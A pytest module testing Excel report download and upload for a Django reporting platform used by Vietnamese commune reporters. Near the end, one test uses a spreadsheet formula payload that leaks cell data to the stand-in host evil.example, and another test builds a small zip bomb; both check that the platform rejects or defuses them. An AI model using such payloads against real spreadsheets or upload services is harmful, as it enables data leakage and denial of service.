"""A commune reporter downloads a report as Excel, fills it in and uploads it back.

Dates: the ``today`` fixture pins the platform's day to 05/10/2026 (see conftest.py), when
quarter 2026Q3 of BM01-VON is open for entry (16/09 to 29/11/2026) and half-year 2026S1 of
BM02-DA1 is already locked (since 29/08/2026). Service-level tests of BM02-DA1 pass
``today=`` inside its 2026S1 window instead.
"""

from __future__ import annotations

import datetime
import io
import json
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import HttpResponseForbidden, HttpResponseNotFound
from django.urls import include, path

from dantoc.core.errors import ImportRejected
from dantoc.reporting import selectors, services, views_xlsx
from dantoc.reporting.models import DataValue, DataValueChange, Submission
from dantoc.reporting.services.xlsx import (
    META_SHEET,
    XLSX_CONTENT_TYPE,
    report_workbook,
    report_workbook_parse,
    report_xlsx_import,
)

pytestmark = [pytest.mark.django_db, pytest.mark.urls(__name__)]

# Until the lead's urls.py carries these lines, the tests route to the views themselves.
REPORT = "reporting/<str:form_code>/<str:period_code>/<str:unit_code>/"
urlpatterns = [
    path(REPORT + "xlsx", views_xlsx.report_xlsx_download, name="report_xlsx_download"),
    path(REPORT + "xlsx/upload", views_xlsx.report_xlsx_upload, name="report_xlsx_upload"),
    path("accounts/", include("dantoc.accounts.urls")),
]


def handler404(request, exception):
    return HttpResponseNotFound("404")


def handler403(request, exception):
    return HttpResponseForbidden("403")


ENTRY = "/reporting/BM01-VON/2026Q3/00715/"
DOWNLOAD = ENTRY + "xlsx"
UPLOAD = ENTRY + "xlsx/upload"
S1_DAY = datetime.date(2026, 7, 20)  # inside BM02-DA1 2026S1's entry window


# --- helpers --------------------------------------------------------------------------------


@pytest.fixture
def da1(db):
    return selectors.form_get(code="BM02-DA1")


@pytest.fixture
def s1(da1):
    return services.period_resolve(period_type=da1.period_type, code="2026S1")


@pytest.fixture
def lungcu(people):
    unit = people.commune.unit
    assert unit.code == "00715"
    return unit


def workbook_for(form, unit, period) -> bytes:
    layout = selectors.form_layout(form)
    values = selectors.values_for(layout=layout, unit=unit, period=period)
    return report_workbook(form=form, unit=unit, period=period, values=values)


def load(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def save(wb: openpyxl.Workbook) -> bytes:
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def sheet(wb, section_code: str):
    [ws] = [wb[t] for t in wb.sheetnames if t.startswith(section_code + " ")]
    return ws


def find(wb, section_code: str, row_label: str, column_label: str):
    """The cell a person finds by reading the sheet: row label in A, column label on top."""
    ws = sheet(wb, section_code)
    header = next(r for r in range(1, 20) if ws.cell(row=r, column=1).value == "Chỉ tiêu")
    column = next(
        c
        for c in range(2, ws.max_column + 1)
        if ws.cell(row=header, column=c).value == column_label
    )
    row = next(
        r for r in range(header + 1, ws.max_row + 1) if ws.cell(row=r, column=1).value == row_label
    )
    return ws.cell(row=row, column=column)


def key_of(form, section_code: str, row_code: str, column_code: str) -> str:
    layout = selectors.form_layout(form)
    [section] = [s for s in layout.sections if s.code == section_code]
    [row] = [r for r in section.rows if r.code == row_code]
    index = [c.code for c in section.columns].index(column_code)
    return row.cells[index].key


def value_of(form, unit, period, key) -> DataValue | None:
    cell = selectors.form_layout(form).cells[key]
    return DataValue.objects.filter(
        unit=unit, period=period, indicator=cell.indicator, options_key=cell.options_key
    ).first()


def snapshot(unit):
    """Everything an upload could change for a unit."""
    return (
        sorted(
            DataValue.objects.filter(unit=unit).values_list(
                "indicator_id", "period_id", "options_key", "value", "comment", "deleted"
            )
        ),
        DataValueChange.objects.filter(data_value__unit=unit).count(),
        Submission.objects.filter(unit=unit).count(),
    )


def forget_messages(client) -> None:
    """Drop messages a previous response left unread (no entry page here shows them)."""
    client.cookies.pop("messages", None)
    session = client.session
    session.pop("_messages", None)
    session.save()


def upload(client, data: bytes, url=UPLOAD, name="BM01-VON_2026Q3_00715.xlsx"):
    forget_messages(client)
    return client.post(url, {"file": SimpleUploadedFile(name, data, XLSX_CONTENT_TYPE)})


def flashed(response) -> list[str]:
    return [m.message for m in get_messages(response.wsgi_request)]


def seed(actor, form, unit, period, values: dict, today):
    return services.datavalues_save(
        actor=actor,
        form=form,
        unit=unit,
        period=period,
        inputs=[services.CellInput(k, v, c) for k, (v, c) in values.items()],
        source="web",
        today=today,
    )


# --- download ---------------------------------------------------------------------------------


def test_reporter_downloads_a_prefilled_workbook_with_its_identity_hidden_inside(
    people, client, today, von, q3, lungcu
):
    key = key_of(von, "KH", "DA1_DTPT", "TW")
    seed(people.commune, von, lungcu, q3, {key: ("1.500,25", "Theo QĐ 12/QĐ-UBND")}, today)
    client.force_login(people.commune)

    response = client.get(DOWNLOAD)

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert 'filename="BM01-VON_2026Q3_00715.xlsx"' in response["Content-Disposition"]
    wb = load(response.content)
    assert wb.sheetnames[-1] == META_SHEET and wb[META_SHEET].sheet_state == "hidden"
    assert [t.split(" ")[0] for t in wb.sheetnames[:-1]] == ["KH", "GN"]
    assert all(len(t) <= 31 for t in wb.sheetnames)
    ws = sheet(wb, "KH")
    header = "\n".join(str(ws.cell(row=r, column=1).value) for r in range(1, 8))
    assert "BM01-VON" in header and "phiên bản 1" in header
    assert "Xã Lũng Cú" in header and "00715" in header and "2026Q3" in header
    assert "Không sửa các ô màu xám" in header

    filled = find(wb, "KH", "Dự án 1 – vốn đầu tư phát triển", "NSTW")
    assert filled.value == 1500.25 and filled.data_type == "n"  # a number, not text
    assert filled.number_format == "#,##0.##"
    assert filled.comment.text == "Theo QĐ 12/QĐ-UBND"
    assert filled.protection.locked is False
    empty = find(wb, "KH", "Dự án 1 – vốn đầu tư phát triển", "NSĐP")
    assert empty.value is None and empty.protection.locked is False
    assert ws.protection.sheet is True
    assert ws.cell(row=filled.row, column=1).protection.locked is True  # the label
    meta = {r[0]: r[1] for r in wb[META_SHEET].iter_rows(values_only=True)}
    assert meta["form_code"] == "BM01-VON" and meta["form_version"] == 1
    assert meta["unit_code"] == "00715" and meta["period_code"] == "2026Q3"


def test_integer_cells_are_written_as_whole_numbers(people, da1, s1, lungcu):
    key = key_of(da1, "KQ", "DT08", "DA1_HO_NHA_O")
    seed(people.commune, da1, lungcu, s1, {key: ("12", None)}, S1_DAY)
    wb = load(workbook_for(da1, lungcu, s1))
    cell = find(wb, "KQ", "08. Mông", "Nhà ở")
    assert cell.value == 12 and isinstance(cell.value, int)
    assert cell.number_format == "#,##0"
    assert len(sheet(wb, "KQ").title) <= 31


def test_a_cell_missing_from_the_form_is_grey_and_locked(von, q3, lungcu):
    # A row × column that has no indicator with matching options has no cell.
    layout = selectors.form_layout(von)
    row = layout.sections[0].rows[0]
    missing_key = row.cells[1].key
    row.cells[1] = None
    data = report_workbook(form=von, unit=lungcu, period=q3, values={}, layout=layout)
    wb = load(data)
    cell = find(wb, "KH", row.label, "NSĐP")
    assert cell.protection.locked is True and cell.fill.fgColor.rgb.endswith("A6A6A6")
    assert find(wb, "KH", row.label, "NSTW").protection.locked is False
    keys = [r[1] for r in wb[META_SHEET].iter_rows(values_only=True) if r[0] == "cell"]
    assert len(keys) == 159 and missing_key not in keys


@pytest.mark.parametrize(
    "url",
    [
        "/reporting/NO-SUCH/2026Q3/00715/xlsx",
        "/reporting/BM01-VON/2026X9/00715/xlsx",
        "/reporting/BM01-VON/2026Q3/99999/xlsx",
    ],
)
def test_unknown_form_period_or_unit_is_not_found(people, client, url):
    client.force_login(people.commune)
    assert client.get(url).status_code == 404


def test_anonymous_visitor_is_sent_to_sign_in(client):
    response = client.get(DOWNLOAD)
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


# --- upload -----------------------------------------------------------------------------------


def test_filled_cells_are_saved_from_the_file_with_their_history(
    people, client, today, von, q3, lungcu
):
    client.force_login(people.commune)
    wb = load(client.get(DOWNLOAD).content)
    find(wb, "KH", "Dự án 1 – vốn đầu tư phát triển", "NSTW").value = "1.234,5"
    find(wb, "KH", "Dự án 1 – vốn đầu tư phát triển", "NSĐP").value = 300
    gn = find(wb, "GN", "Dự án 1 – vốn đầu tư phát triển", "NSTW")
    gn.value = 1000.75
    gn.comment = openpyxl.comments.Comment("Xa Lung Cu:\nĐã giải ngân đợt 1", "Xa Lung Cu")

    response = upload(client, save(wb))

    assert response.status_code == 303 and response["Location"] == ENTRY
    assert flashed(response) == ["Đã nhập 3 giá trị từ tệp Excel."]
    saved = {
        code: value_of(von, lungcu, q3, key_of(von, sec, "DA1_DTPT", code.split("/")[1]))
        for sec, code in [("KH", "KH/TW"), ("KH", "KH/DP"), ("GN", "GN/TW")]
    }
    assert {k: v.value for k, v in saved.items()} == {
        "KH/TW": "1234.5",
        "KH/DP": "300",
        "GN/TW": "1000.75",
    }
    assert saved["GN/TW"].comment == "Đã giải ngân đợt 1"
    # First entries: each value records who entered it; history starts with a change.
    assert {v.created_by for v in saved.values()} == {people.commune}
    history = DataValueChange.objects.filter(data_value__unit=lungcu, data_value__period=q3)
    assert not history.exists()

    wb = load(client.get(DOWNLOAD).content)
    find(wb, "KH", "Dự án 1 – vốn đầu tư phát triển", "NSĐP").value = 350
    response = upload(client, save(wb))
    assert response.status_code == 303
    assert sorted(history.values_list("old_value", "new_value", "source", "actor__username")) == [
        ("300", "350", "xlsx", "xa.lungcu"),
    ]


def test_bad_cells_reject_the_whole_file_naming_sheet_row_and_column(
    people, client, today, von, q3, lungcu
):
    key = key_of(von, "KH", "DA2_SN", "TW")
    seed(people.commune, von, lungcu, q3, {key: ("50", None)}, today)
    before = snapshot(lungcu)
    client.force_login(people.commune)
    wb = load(client.get(DOWNLOAD).content)
    bad = find(wb, "GN", "Dự án 3 – vốn sự nghiệp", "Lồng ghép")
    bad.value = "abc"
    find(wb, "KH", "Dự án 1 – vốn đầu tư phát triển", "NSTW").value = 99  # good, not saved
    find(wb, "KH", "Dự án 2 – vốn sự nghiệp", "NSTW").value = 60  # a change, not saved
    data = save(wb)

    with pytest.raises(ImportRejected) as caught:
        report_xlsx_import(actor=people.commune, form=von, unit=lungcu, period=q3, data=data)
    [error] = caught.value.errors
    assert (error.sheet, error.row, error.column) == (bad.parent.title, bad.row, "D")
    assert "'abc' không phải là số" in error.message
    assert snapshot(lungcu) == before

    response = upload(client, data)
    assert response.status_code == 303 and response["Location"] == ENTRY
    assert flashed(response) == [
        "Không nhập được tệp Excel (1 lỗi); không có giá trị nào được ghi.",
        f"Trang tính “{bad.parent.title}”, ô D{bad.row}: 'abc' không phải là số",
    ]
    assert snapshot(lungcu) == before


def test_a_fraction_in_a_count_and_text_in_a_number_are_both_located(people, da1, s1, lungcu):
    wb = load(workbook_for(da1, lungcu, s1))
    fraction = find(wb, "KQ", "08. Mông", "Nhà ở")
    fraction.value = 2.5
    text = find(wb, "KQ", "01. Kinh", "Nước sinh hoạt phân tán")
    text.value = "abc"
    find(wb, "KQ", "02. Tày", "Đất ở").value = 4
    before = snapshot(lungcu)

    with pytest.raises(ImportRejected) as caught:
        report_xlsx_import(
            actor=people.commune, form=da1, unit=lungcu, period=s1, data=save(wb), today=S1_DAY
        )

    located = {(e.sheet, e.row, e.column): e.message for e in caught.value.errors}
    title = sheet(wb, "KQ").title
    assert located == {
        (title, fraction.row, "C"): "'2.5' phải là số nguyên",
        (title, text.row, "E"): "'abc' không phải là số",
    }
    assert snapshot(lungcu) == before


def test_more_than_fifty_errors_are_cut_short_in_the_messages(
    people, client, today, von, q3, lungcu
):
    client.force_login(people.commune)
    wb = load(client.get(DOWNLOAD).content)
    for section in ("KH", "GN"):
        ws = sheet(wb, section)
        for row in range(10, 25):
            for column in range(2, 4):
                ws.cell(row=row, column=column).value = "x"
    response = upload(client, save(wb))
    shown = flashed(response)
    assert shown[0] == "Không nhập được tệp Excel (60 lỗi); không có giá trị nào được ghi."
    assert len(shown) == 52 and shown[-1] == "… và 10 lỗi khác"


@pytest.mark.parametrize(
    "form_code, period_code, unit_code, said",
    [
        ("BM01-VON", "2026Q3", "00700", "biểu BM01-VON kỳ 2026Q3 của Xã Ngọc Đường"),
        ("BM01-VON", "2026Q2", "00715", "biểu BM01-VON kỳ 2026Q2 của Xã Lũng Cú"),
        ("BM02-DA1", "2026S1", "00715", "biểu BM02-DA1 kỳ 2026S1 của Xã Lũng Cú"),
    ],
)
def test_a_file_of_another_unit_period_or_form_is_refused_clearly(
    people, client, today, von, q3, lungcu, form_code, period_code, unit_code, said
):
    from dantoc.geo.selectors import unit_get

    form = selectors.form_get(code=form_code)
    period = services.period_resolve(period_type=form.period_type, code=period_code)
    wb = load(workbook_for(form, unit_get(code=unit_code, as_of=period.end_date), period))
    sheet(wb, wb.sheetnames[0].split(" ")[0]).cell(row=10, column=2).value = 5
    data = save(wb)
    before = snapshot(lungcu)

    with pytest.raises(ImportRejected) as caught:
        report_workbook_parse(form=von, unit=lungcu, period=q3, data=data)
    [error] = caught.value.errors
    assert error.message.startswith(f"Tệp này là {said}, không phải biểu BM01-VON kỳ 2026Q3")

    client.force_login(people.commune)
    response = upload(client, data)
    assert any(said in m for m in flashed(response))
    assert snapshot(lungcu) == before


def zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (25 * 1024 * 1024))
    return out.getvalue()


@pytest.mark.parametrize(
    "data, said",
    [
        (b"Ho va ten;So ho\nA;1\n", "không phải là tệp Excel .xlsx"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "Excel 97-2003 (.xls)"),
        (b"PK\x03\x04 not really a zip", "không phải là tệp Excel .xlsx"),
        (b"\0" * (5 * 1024 * 1024 + 1), "lớn hơn 5 MB"),
        (zip_bomb(), "Nội dung tệp quá lớn"),
    ],
    ids=["csv", "xls", "broken-zip", "too-large", "inflates-too-much"],
)
def test_a_file_that_is_not_a_report_workbook_is_refused(
    people, today, von, q3, lungcu, data, said
):
    with pytest.raises(ImportRejected) as caught:
        report_xlsx_import(actor=people.commune, form=von, unit=lungcu, period=q3, data=data)
    [error] = caught.value.errors
    assert (error.row, error.column) == (0, "")
    assert said in error.message


def test_a_workbook_not_made_by_the_platform_is_refused(people, today, von, q3, lungcu):
    wb = openpyxl.Workbook()
    wb.active["B10"] = 5
    with pytest.raises(ImportRejected) as caught:
        report_workbook_parse(form=von, unit=lungcu, period=q3, data=save(wb))
    assert "thiếu sheet ẩn “_dantoc”" in caught.value.errors[0].message


def test_upload_refuses_large_or_non_excel_files_before_reading_them(people, client, today, lungcu):
    client.force_login(people.commune)
    before = snapshot(lungcu)
    big = upload(client, b"\0" * (5 * 1024 * 1024 + 1))
    assert flashed(big) == ["Tệp lớn hơn 5 MB: hãy tải lên đúng biểu mẫu đã tải về từ hệ thống."]
    forget_messages(client)
    text = client.post(UPLOAD, {"file": SimpleUploadedFile("so-lieu.txt", b"1;2;3", "text/plain")})
    assert flashed(text) == ["Tệp tải lên không phải là tệp Excel .xlsx."]
    forget_messages(client)
    missing = client.post(UPLOAD, {})
    assert flashed(missing) == ["Hãy chọn tệp Excel (.xlsx) để tải lên."]
    assert {r.status_code for r in (big, text, missing)} == {303}
    assert snapshot(lungcu) == before


def test_a_renamed_sheet_is_refused_naming_it(people, today, von, q3, lungcu):
    wb = load(workbook_for(von, lungcu, q3))
    ws = sheet(wb, "GN")
    old_title = ws.title
    ws.title = "Giải ngân"
    with pytest.raises(ImportRejected) as caught:
        report_workbook_parse(form=von, unit=lungcu, period=q3, data=save(wb))
    [error] = caught.value.errors
    assert error.sheet == old_title
    assert "đổi tên hoặc bị xoá" in error.message


def test_inserted_rows_do_not_shift_values_into_the_wrong_cells(people, today, von, q3, lungcu):
    wb = load(workbook_for(von, lungcu, q3))
    ws = sheet(wb, "KH")
    ws.insert_rows(12)
    find(wb, "KH", "Dự án 2 – vốn sự nghiệp", "NSTW").value = 70
    with pytest.raises(ImportRejected) as caught:
        report_workbook_parse(form=von, unit=lungcu, period=q3, data=save(wb))
    [error] = caught.value.errors
    assert error.sheet == ws.title and (error.row, error.column) == (12, "B")
    assert "Bố cục sheet đã bị thay đổi" in error.message


def test_a_formula_without_a_saved_result_is_refused(people, today, von, q3, lungcu):
    wb = load(workbook_for(von, lungcu, q3))
    cell = find(wb, "KH", "Dự án 1 – vốn sự nghiệp", "NSTW")
    cell.value = "=100+200"
    with pytest.raises(ImportRejected) as caught:
        report_workbook_parse(form=von, unit=lungcu, period=q3, data=save(wb))
    [error] = caught.value.errors
    assert (error.row, error.column) == (cell.row, "B")
    assert "công thức" in error.message


def test_untouched_template_changes_nothing_and_an_emptied_cell_deletes_its_value(
    people, today, von, q3, lungcu
):
    kept, cleared = key_of(von, "KH", "DA1_DTPT", "TW"), key_of(von, "KH", "DA1_DTPT", "DP")
    seed(people.commune, von, lungcu, q3, {kept: ("10", None), cleared: ("20", "x")}, today)
    data = workbook_for(von, lungcu, q3)
    # Entered on the web after the download: an empty cell in the older file must not erase it.
    later = key_of(von, "GN", "DA1_DTPT", "TW")
    seed(people.commune, von, lungcu, q3, {later: ("5", None)}, today)
    before = snapshot(lungcu)

    inputs, _ = report_workbook_parse(form=von, unit=lungcu, period=q3, data=data)
    assert inputs == []
    result = report_xlsx_import(actor=people.commune, form=von, unit=lungcu, period=q3, data=data)
    assert result.cells == [] and snapshot(lungcu) == before

    wb = load(data)
    find(wb, "KH", "Dự án 1 – vốn đầu tư phát triển", "NSĐP").value = None
    result = report_xlsx_import(
        actor=people.commune, form=von, unit=lungcu, period=q3, data=save(wb)
    )
    assert result.count("deleted") == 1
    assert value_of(von, lungcu, q3, cleared).deleted is True
    assert value_of(von, lungcu, q3, kept).value == "10"
    assert value_of(von, lungcu, q3, later).value == "5"


def test_uploading_the_same_file_twice_changes_nothing_the_second_time(
    people, client, today, von, q3, lungcu
):
    client.force_login(people.commune)
    wb = load(client.get(DOWNLOAD).content)
    find(wb, "KH", "Dự án 4 – vốn sự nghiệp", "Huy động").value = 42
    find(wb, "GN", "Dự án 4 – vốn sự nghiệp", "Huy động").value = "12,5"
    data = save(wb)

    first = upload(client, data)
    assert flashed(first) == ["Đã nhập 2 giá trị từ tệp Excel."]
    after_first = snapshot(lungcu)
    second = upload(client, data)
    # Nothing written is a warning, not a success (issue 17, defect 4).
    assert [(m.level_tag, m.message) for m in get_messages(second.wsgi_request)] == [
        (
            "warning",
            "Tệp Excel không có thay đổi nào so với số liệu hiện có: "
            "không có giá trị nào được ghi.",
        )
    ]
    assert snapshot(lungcu) == after_first


def test_upload_to_a_locked_period_saves_nothing(people, client, today, da1, s1, lungcu):
    wb = load(workbook_for(da1, lungcu, s1))
    find(wb, "KQ", "08. Mông", "Nhà ở").value = 3
    before = snapshot(lungcu)
    client.force_login(people.commune)
    response = upload(
        client, save(wb), url="/reporting/BM02-DA1/2026S1/00715/xlsx/upload", name="a.xlsx"
    )
    assert response.status_code == 303
    assert response["Location"] == "/reporting/BM02-DA1/2026S1/00715/"
    assert flashed(response) == ["Kỳ báo cáo 6 tháng đầu năm 2026 đã khoá nhập từ 29/08/2026."]
    assert snapshot(lungcu) == before


def test_another_communes_reporter_cannot_download_or_upload(people, client, today, von, q3):
    from dantoc.geo.selectors import unit_get

    lungcu = unit_get(code="00715", as_of=q3.end_date)
    wb = load(workbook_for(von, lungcu, q3))
    find(wb, "KH", "Dự án 1 – vốn đầu tư phát triển", "NSTW").value = 1
    before = snapshot(lungcu)
    client.force_login(people.other_commune)

    assert client.get(DOWNLOAD).status_code == 404
    assert upload(client, save(wb)).status_code == 403
    assert snapshot(lungcu) == before


def test_a_file_of_the_version_the_report_was_started_on_is_still_accepted(
    people, today, von, q3, lungcu
):
    first = key_of(von, "KH", "DA1_DTPT", "TW")
    seed(people.commune, von, lungcu, q3, {first: ("1", None)}, today)  # started on v1
    old_file = load(workbook_for(von, lungcu, q3))
    find(old_file, "KH", "Dự án 1 – vốn đầu tư phát triển", "NSĐP").value = 2
    definition = json.loads(Path(settings.BASE_DIR / "data/forms/bm01_von.json").read_text())
    definition["name"] += " (sửa đổi)"
    v2, created = services.form_define(definition=definition)
    assert created and v2.version == 2 and selectors.form_get(code="BM01-VON") == v2

    result = report_xlsx_import(
        actor=people.commune, form=v2, unit=lungcu, period=q3, data=save(old_file)
    )
    assert result.count("saved") == 1
    assert value_of(von, lungcu, q3, key_of(von, "KH", "DA1_DTPT", "DP")).value == "2"


def test_a_file_of_an_older_version_is_refused_when_the_report_did_not_use_it(
    people, today, von, q3, lungcu
):
    old_file = load(workbook_for(von, lungcu, q3))
    find(old_file, "KH", "Dự án 1 – vốn đầu tư phát triển", "NSĐP").value = 2
    definition = json.loads(Path(settings.BASE_DIR / "data/forms/bm01_von.json").read_text())
    definition["name"] += " (sửa đổi)"
    v2, _ = services.form_define(definition=definition)
    before = snapshot(lungcu)

    with pytest.raises(ImportRejected) as caught:
        report_xlsx_import(
            actor=people.commune, form=v2, unit=lungcu, period=q3, data=save(old_file)
        )
    assert "phiên bản 1 của biểu BM01-VON" in caught.value.errors[0].message
    assert "phiên bản 2" in caught.value.errors[0].message
    assert snapshot(lungcu) == before


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Xem")'


def test_a_formula_typed_as_a_comment_stays_text_in_the_workbook_and_round_trips(
    people, client, today, von, q3, lungcu
):
    key = key_of(von, "KH", "DA1_DTPT", "TW")
    seed(people.commune, von, lungcu, q3, {key: ("-5", HYPERLINK)}, today)
    client.force_login(people.commune)
    data = client.get(DOWNLOAD).content
    wb = load(data)
    # No sheet, the hidden one included, holds a formula: the comment is a text cell.
    assert not any(
        c.data_type == "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row
    )
    stored = [c for row in wb[META_SHEET].iter_rows() for c in row if c.value == HYPERLINK]
    assert stored and all(c.data_type == "s" and c.quotePrefix for c in stored)
    filled = find(wb, "KH", "Dự án 1 – vốn đầu tư phát triển", "NSTW")
    assert filled.value == -5 and filled.data_type == "n"
    assert filled.comment.text == HYPERLINK
    before = snapshot(lungcu)
    result = report_xlsx_import(actor=people.commune, form=von, unit=lungcu, period=q3, data=data)
    assert result.cells == [] and snapshot(lungcu) == before
